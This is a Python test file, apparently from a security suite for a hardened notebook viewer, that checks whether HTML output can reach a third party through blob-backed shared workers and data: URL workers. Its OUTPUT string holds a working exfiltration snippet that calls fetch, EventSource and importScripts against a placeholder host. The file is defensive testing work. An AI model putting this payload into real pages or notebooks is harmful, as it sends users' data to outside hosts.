"""Print script that talks to a third party from a worker that several pages share, and from one of a `data:` address.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: a worker of a blob has its maker's policy, and `worker-src` lets no `data:` in; from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
const text = `fetch("THIRD/secret").catch(() => 0); new EventSource("THIRD/secret-2"); importScripts("THIRD/secret-3")`;
new SharedWorker(URL.createObjectURL(new Blob([text])));
new Worker("data:text/javascript," + encodeURIComponent(text));
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
